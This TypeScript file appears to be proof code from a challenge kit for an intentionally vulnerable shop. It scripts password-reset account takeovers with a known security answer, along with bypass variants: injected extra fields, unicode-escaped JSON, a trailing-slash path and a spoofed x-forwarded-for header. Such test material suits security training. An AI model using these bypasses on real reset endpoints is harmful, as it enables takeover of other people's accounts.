import type { Attack, Attacker } from '@fruit/challenge-kit/proof'

const PATH = '/rest/user/reset-password'
const PASSWORD = 'a stolen password'

/** Resets a forgotten password with the security answer. */
export function resetPassword(attacker: Attacker, email: string, answer: string, more: object = {}) {
  return attacker.post(PATH, { email, answer, new: PASSWORD, repeat: PASSWORD, ...more })
}

/** Returns the e-mail of an account such as `jim` in the shop's domain. */
const mailOf = ({ domain }: Attacker, name: string) => `${name}@${domain}`

/** Variants of a password reset by a player who knows the security answer. */
export function spellingsOfReset(name: string, answer: string): Readonly<Record<string, Attack>> {
  const reset = (more?: object) => (attacker: Attacker) => resetPassword(attacker, mailOf(attacker, name), answer, more)
  const escaped = [...answer].map((sign) => `\\u${sign.charCodeAt(0).toString(16).padStart(4, '0')}`).join('')
  return {
    'without asking for the question first': reset(),
    'with the shortest password that there is': reset({ new: 'ripe!', repeat: 'ripe!' }),
    'with fields that nobody asked for': reset({ questionId: 1, knownBrowser: true, UserId: 1 }),
    'with each character of the answer escaped, as JSON allows': (attacker) =>
      attacker.post(
        PATH,
        `{"repeat":"${PASSWORD}","new":"${PASSWORD}","answer":"${escaped}","email":"${mailOf(attacker, name)}"}`,
        { headers: { 'content-type': 'application/json; charset=utf-8' } },
      ),
    'with a slash behind the address': (attacker) =>
      attacker.post(`${PATH}/`, { email: mailOf(attacker, name), answer, new: PASSWORD, repeat: PASSWORD }),
    'after two wrong answers': async (attacker) => {
      for (const wrong of ['Cider', 'Vinegar']) await resetPassword(attacker, mailOf(attacker, name), wrong)
      await reset()(attacker)
    },
    'from an address that a header makes up': (attacker) =>
      attacker.post(
        PATH,
        { email: mailOf(attacker, name), answer, new: PASSWORD, repeat: PASSWORD },
        { headers: { 'x-forwarded-for': '203.0.113.7' } },
      ),
    'while signed in as somebody else': async (attacker) => {
      await attacker.becomeCustomer()
      await reset()(attacker)
    },
    'twice, with two passwords': async (attacker) => {
      await reset()(attacker)
      await reset({ new: 'riper', repeat: 'riper' })(attacker)
    },
  }
}
